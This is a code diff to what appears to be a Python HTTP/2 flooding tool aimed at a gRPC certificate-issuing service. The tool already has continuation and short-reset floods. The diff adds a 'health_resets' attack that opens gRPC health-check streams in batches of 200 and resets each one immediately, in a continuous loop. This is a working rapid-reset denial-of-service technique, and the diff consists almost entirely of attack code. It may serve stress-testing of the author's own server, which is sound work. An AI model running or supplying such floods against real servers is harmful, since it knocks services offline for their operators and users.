@@ -47,10 +47,12 @@ class Flood:
         self.sent += len(octets)
 
 
-def headers(connection, flags=http2.END_HEADERS, more=(), method="IssueCertificate"):
+def headers(connection, flags=http2.END_HEADERS, more=(), method="IssueCertificate",
+            service=http2.SERVICE):
     stream = connection.next_stream
     connection.next_stream += 2
-    return stream, http2.frame(http2.HEADERS, flags, stream, http2.grpc_headers(method, more))
+    return stream, http2.frame(http2.HEADERS, flags, stream,
+                               http2.grpc_headers(method, more, service))
 
 
 def continuation(flood):
@@ -94,6 +96,18 @@ def short_resets(flood):
                 octets += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, indices)
                 octets += reset(stream)
                 stream += 2
+            flood.send(connection, octets)
+
+
+def health_resets(flood):
+    """Streams of gRPC's own health service, reset at once."""
+    with flood.connect() as connection:
+        while flood.on():
+            octets = b""
+            for _ in range(200):
+                stream, opening = headers(connection, method="Check",
+                                          service="grpc.health.v1.Health")
+                octets += opening + reset(stream)
             flood.send(connection, octets)
 
 
